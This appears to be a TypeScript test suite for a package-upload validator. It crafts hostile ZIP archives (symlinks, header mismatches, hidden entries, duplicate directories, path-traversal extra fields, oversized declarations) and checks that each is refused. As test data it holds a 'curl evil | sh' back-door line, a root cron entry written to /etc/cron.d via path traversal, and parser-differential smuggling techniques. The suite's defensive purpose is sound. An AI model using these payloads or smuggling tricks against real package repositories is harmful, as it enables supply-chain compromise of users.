/**
 * Hostile upload ZIPs (PEP 480: the upload is "a ZIP file containing two directories, /metadata/
 * and /targets/"), each otherwise a valid upload that `upload check` would accept: the index checks
 * the archive as this reader reads it, and whatever else reads it afterwards (an extracting tool, a
 * streaming reader, Python's zipfile) must find the same files. Archives that other readers read
 * differently, or extract to something else than a plain file, are refused, naming the entry.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { targetFileOf } from '../../src/bundle/project-upload.js';
import { Metadata, Targets } from '../../src/tuf/model/metadata.js';
import { runCli } from '../helpers/cli.js';
import { FAR, honestRepo, PROJECT, RepoKeys, writeRepo, type WrittenRepo } from '../e2e/hostile/repo.js';

const tmp = mkdtempSync(join(tmpdir(), 'upload-zip-attacks-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const keys = new RepoKeys();
let repo: WrittenRepo;
beforeAll(async () => {
  repo = await writeRepo(honestRepo('flat', keys), join(tmp, 'repo'));
});

interface Entry {
  name: string;
  data: Buffer;
  /** General purpose flags of the central directory (bit 11, UTF-8, by default). */
  flags?: number;
  /** Of the local header, when it differs. */
  localFlags?: number;
  /** The local header's CRC-32 and sizes, when they differ from the central directory's. */
  localCrc?: number;
  localSize?: number;
  /** Upper byte of "version made by" (3: Unix) and the external attributes (a Unix mode << 16). */
  madeBy?: number;
  externalAttributes?: number;
  /** Extra fields, in both headers. */
  extra?: Buffer;
  comment?: Buffer;
}

interface Layout {
  /** Bytes before the first entry. */
  before?: Buffer;
  /** Bytes between the last entry and the central directory. */
  beforeCd?: Buffer;
  /** Bytes between the central directory and the end record. */
  afterCd?: Buffer;
  /** The archive comment. */
  comment?: Buffer;
}

/** A stored ZIP as APPNOTE 6.3 lays it out, every field of each entry as the case wants it. */
function zip(entries: Entry[], layout: Layout = {}): Buffer {
  const parts: Buffer[] = [layout.before ?? Buffer.alloc(0)];
  const central: Buffer[] = [];
  let offset = parts[0]!.length;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const extra = e.extra ?? Buffer.alloc(0);
    const comment = e.comment ?? Buffer.alloc(0);
    const crc = crc32(e.data);
    const flags = e.flags ?? 0x0800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.localFlags ?? flags, 6);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(e.localCrc ?? crc, 14);
    local.writeUInt32LE(e.localSize ?? e.data.length, 18);
    local.writeUInt32LE(e.localSize ?? e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(extra.length, 28);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(((e.madeBy ?? 3) << 8) | 20, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(flags, 8);
    cd.writeUInt16LE(0x21, 14);
    cd.writeUInt32LE(crc, 16);
    cd.writeUInt32LE(e.data.length, 20);
    cd.writeUInt32LE(e.data.length, 24);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt16LE(extra.length, 30);
    cd.writeUInt16LE(comment.length, 32);
    cd.writeUInt32LE(e.externalAttributes ?? (0o100644 << 16) >>> 0, 38);
    cd.writeUInt32LE(offset, 42);
    central.push(cd, name, extra, comment);
    parts.push(local, name, extra, e.data);
    offset += 30 + name.length + extra.length + e.data.length;
  }
  if (layout.beforeCd) {
    parts.push(layout.beforeCd);
    offset += layout.beforeCd.length;
  }
  const cd = Buffer.concat(central);
  const comment = layout.comment ?? Buffer.alloc(0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...parts, cd, layout.afterCd ?? Buffer.alloc(0), end, comment]);
}

const targetPath = `${PROJECT}/example_project-2.0.tar.gz`;
const entryName = `targets/${targetPath}`;

/** The project's role v2, signed by the developer, listing `listed` at the release's target path. */
async function roleEntry(listed: Buffer): Promise<Entry> {
  const md = new Metadata(
    new Targets({ version: 2, expires: FAR, targets: new Map([[targetPath, targetFileOf(listed)]]) }),
  );
  await md.sign(keys.developer, 'append');
  return { name: `metadata/2.${PROJECT}.json`, data: md.toBytes() };
}

let n = 0;
async function check(bytes: Buffer) {
  const path = join(tmp, `upload-${++n}.zip`);
  writeFileSync(path, bytes);
  const r = await runCli(['upload', 'check', path, '--metadata', repo.metadata, '--root', repo.trustedRoot]);
  return { ...r, path };
}

/** What Python's zipfile reads from the archive: name → content. */
function pythonReads(path: string): Record<string, string> {
  const out = execFileSync('python3', [
    '-c',
    'import sys,zipfile,json\nz=zipfile.ZipFile(sys.argv[1])\nprint(json.dumps({i.filename: z.read(i).decode("latin-1") for i in z.infolist()}))',
    path,
  ]);
  return JSON.parse(out.toString()) as Record<string, string>;
}

const release = Buffer.from('example-project 2.0, as its developer built it\n');

describe('the honest archive', () => {
  it('is accepted, and Python reads the same files', async () => {
    const r = await check(zip([await roleEntry(release), { name: entryName, data: release }]));
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(pythonReads(r.path)[entryName]).toBe(release.toString('latin1'));
  });
});

describe('an entry that is not a plain file where it is extracted', () => {
  it('a symbolic link (Unix mode 0120777) whose target text is what the role lists', async () => {
    // unzip and other extractors make a link to /etc/passwd: served, it gives the index's file.
    const link = Buffer.from('/etc/passwd');
    const r = await check(
      zip([await roleEntry(link), { name: entryName, data: link, externalAttributes: (0o120777 << 16) >>> 0 }]),
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(`${entryName}: a symbolic link (external attributes), not a plain file`);
  });

  it('a device, a FIFO, and a folder mode on an entry that has content', async () => {
    for (const mode of [0o020644, 0o010644, 0o040755]) {
      const r = await check(
        zip([await roleEntry(release), { name: entryName, data: release, externalAttributes: (mode << 16) >>> 0 }]),
      );
      expect(r.code, mode.toString(8)).toBe(3);
      expect(r.stderr, mode.toString(8)).toMatch(/not a plain file/);
    }
  });
});

describe('the central directory and the local header disagree', () => {
  it('the local header gives the entry more bytes than the central directory (a streaming reader takes them)', async () => {
    // The central directory says the release's length; the local header, the length with a back door
    // appended: a reader that streams local headers takes the back-doored bytes.
    const evil = Buffer.concat([release, Buffer.from('import os; os.system("curl evil | sh")\n')]);
    const r = await check(
      zip(
        [await roleEntry(release), { name: entryName, data: release, localSize: evil.length, localCrc: crc32(evil) }],
        {
          beforeCd: evil.subarray(release.length),
        },
      ),
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/: the local header says another (CRC-32|size)/);
  });

  it('the local header says encrypted, or a data descriptor, where the central directory does not', async () => {
    for (const localFlags of [0x0801, 0x0808]) {
      const r = await check(zip([await roleEntry(release), { name: entryName, data: release, localFlags }]));
      expect(r.code, localFlags.toString(16)).toBe(3);
      expect(r.stderr, localFlags.toString(16)).toContain(`${entryName}: the local header says other flags`);
    }
  });
});

describe('bytes that no entry accounts for', () => {
  it('an entry hidden before the first one, that no central directory entry names (a streaming reader extracts it)', async () => {
    const hidden = zip([{ name: 'targets/../../../etc/cron.d/evil', data: Buffer.from('* * * * * root sh\n') }]);
    const before = hidden.subarray(0, hidden.readUInt32LE(hidden.length - 6));
    const r = await check(zip([await roleEntry(release), { name: entryName, data: release }], { before }));
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/bytes [0-9]+ to [0-9]+ are in no entry/);
  });

  it('a second central directory between the first and the end record, which Python reads instead', async () => {
    // Python's zipfile reads the central directory that ends at the end record (and moves every
    // offset by the difference, for archives with bytes prepended); this reader read the one the end
    // record points at. Two directories of the same size, naming the same file with other content.
    const evil = Buffer.from('example-project 2.0 with a back door!!\n');
    const role = await roleEntry(release);
    const honest = zip([role, { name: entryName, data: release }]);
    const cdOffset = honest.readUInt32LE(honest.length - 6);
    const cdSize = honest.readUInt32LE(honest.length - 10);
    // An archive of the evil entry alone, its local header placed after the honest entries.
    const evilZip = zip([role, { name: entryName, data: evil }]);
    const evilCdOffset = evilZip.readUInt32LE(evilZip.length - 6);
    const evilLocal = evilZip.subarray(0, evilCdOffset);
    const evilCd = Buffer.from(evilZip.subarray(evilCdOffset, evilZip.length - 22));
    expect(evilCd.length).toBe(cdSize);
    // Python adds (end record's position - size - offset) = cdSize + evilLocal.length to each
    // offset; the evil entries start at cdOffset + cdSize.
    for (let p = 0, i = 0; i < 2; i++) {
      evilCd.writeUInt32LE(cdOffset + evilCd.readUInt32LE(p + 42) - evilLocal.length, p + 42);
      p += 46 + evilCd.readUInt16LE(p + 28);
    }
    const bytes = Buffer.concat([
      honest.subarray(0, cdOffset),
      honest.subarray(cdOffset, honest.length - 22),
      evilLocal,
      evilCd,
      honest.subarray(honest.length - 22),
    ]);
    const r = await check(bytes);
    const python = pythonReads(r.path);
    expect(python[entryName]).toBe(evil.toString('latin1'));
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/bytes [0-9]+ to [0-9]+ are in no entry|between the central directory and its end record/);
  });

  it('a central directory entry beyond the count of the end record, which Python reads too', async () => {
    // Python's zipfile reads entries while the directory's size lasts, whatever the count says: a
    // third entry, naming the same file at the same local header with a shorter size, is the one
    // it extracts (the last of a name wins). This reader read the first two.
    const evil = Buffer.from('example-project 2.0, cut short\n');
    const published = Buffer.concat([evil, Buffer.from('...and the rest, as its developer built it\n')]);
    const bytes = zip([await roleEntry(published), { name: entryName, data: published }]);
    const cdOffset = bytes.readUInt32LE(bytes.length - 6);
    const cdSize = bytes.readUInt32LE(bytes.length - 10);
    const cd = bytes.subarray(cdOffset, cdOffset + cdSize);
    const second = cd.subarray(46 + cd.readUInt16LE(28));
    const hidden = Buffer.from(second);
    hidden.writeUInt32LE(crc32(evil), 16);
    hidden.writeUInt32LE(evil.length, 20);
    hidden.writeUInt32LE(evil.length, 24);
    const end = Buffer.from(bytes.subarray(bytes.length - 22));
    end.writeUInt32LE(cdSize + hidden.length, 12);
    const r = await check(Buffer.concat([bytes.subarray(0, cdOffset + cdSize), hidden, end]));
    expect(pythonReads(r.path)[entryName]).toBe(evil.toString('latin1'));
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('the central directory holds more than the 2 entries its end record counts');
  });

  it('an archive comment holding a second end record, which Python reads instead', async () => {
    const fake = Buffer.alloc(22);
    fake.writeUInt32LE(0x06054b50, 0);
    const r = await check(
      zip([await roleEntry(release), { name: entryName, data: release }], {
        comment: Buffer.concat([Buffer.from('built by '), fake, Buffer.from(' tools')]),
      }),
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('the archive comment holds an end of central directory signature');
  });

  it('a ZIP64 end record locator just before the end record', async () => {
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    const r = await check(zip([await roleEntry(release), { name: entryName, data: release, comment: locator }]));
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/a ZIP64 archive/);
  });
});

describe('extra fields that other readers take over the entry', () => {
  it('an Info-ZIP Unicode Path field naming another path (unzip extracts there)', async () => {
    const path = Buffer.from('../../../../etc/cron.d/evil');
    const nameCrc = crc32(Buffer.from(entryName));
    const field = Buffer.alloc(4 + 5);
    field.writeUInt16LE(0x7075, 0);
    field.writeUInt16LE(5 + path.length, 2);
    field.writeUInt8(1, 4);
    field.writeUInt32LE(nameCrc, 5);
    const r = await check(
      zip([await roleEntry(release), { name: entryName, data: release, extra: Buffer.concat([field, path]) }]),
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(`${entryName}: an extra field 0x7075`);
  });

  it('a ZIP64 extended information field with other sizes', async () => {
    const field = Buffer.alloc(4 + 16);
    field.writeUInt16LE(0x0001, 0);
    field.writeUInt16LE(16, 2);
    field.writeBigUInt64LE(5n, 4);
    field.writeBigUInt64LE(5n, 12);
    const r = await check(zip([await roleEntry(release), { name: entryName, data: release, extra: field }]));
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(`${entryName}: an extra field 0x0001`);
  });
});

describe('names that one file system makes one file', () => {
  for (const [what, a, b] of [
    ['differing by case', `${PROJECT}/Example_Project-2.0.tar.gz`, `${PROJECT}/example_project-2.0.tar.gz`],
    ['differing by Unicode normalization', `${PROJECT}/caf\u00e9-2.0.tar.gz`, `${PROJECT}/cafe\u0301-2.0.tar.gz`],
    ['a file and a folder', `${PROJECT}/x`, `${PROJECT}/x/y`],
  ] as const)
    it(`two target files ${what}, both listed`, async () => {
      const other = Buffer.from('another file\n');
      const md = new Metadata(
        new Targets({
          version: 2,
          expires: FAR,
          targets: new Map([
            [a, targetFileOf(release)],
            [b, targetFileOf(other)],
          ]),
        }),
      );
      await md.sign(keys.developer, 'append');
      const r = await check(
        zip([
          { name: `metadata/2.${PROJECT}.json`, data: md.toBytes() },
          { name: `targets/${a}`, data: release },
          { name: `targets/${b}`, data: other },
        ]),
      );
      expect(r.code).toBe(3);
      expect(r.stderr).toMatch(/where names differ only by case or Unicode normalization|both a file and a folder/);
    });
});

describe('sizes declared beyond what an upload holds', () => {
  it('a deflated entry that declares 2 GiB is refused before anything is inflated', async () => {
    const bytes = zip([await roleEntry(release), { name: entryName, data: deflateRawSync(Buffer.alloc(1024)) }]);
    // Deflated (method 8), 2 GiB uncompressed, in the local header and the central directory.
    const cdOffset = bytes.readUInt32LE(bytes.length - 6);
    const central = cdOffset + 46 + bytes.readUInt16LE(cdOffset + 28);
    const local = bytes.readUInt32LE(central + 42);
    bytes.writeUInt16LE(8, local + 8);
    bytes.writeUInt32LE(2 ** 31, local + 22);
    bytes.writeUInt16LE(8, central + 10);
    bytes.writeUInt32LE(2 ** 31, central + 24);
    const started = Date.now();
    const r = await check(bytes);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('more than 1073741824 bytes together');
    expect(Date.now() - started).toBeLessThan(5000);
  });
});
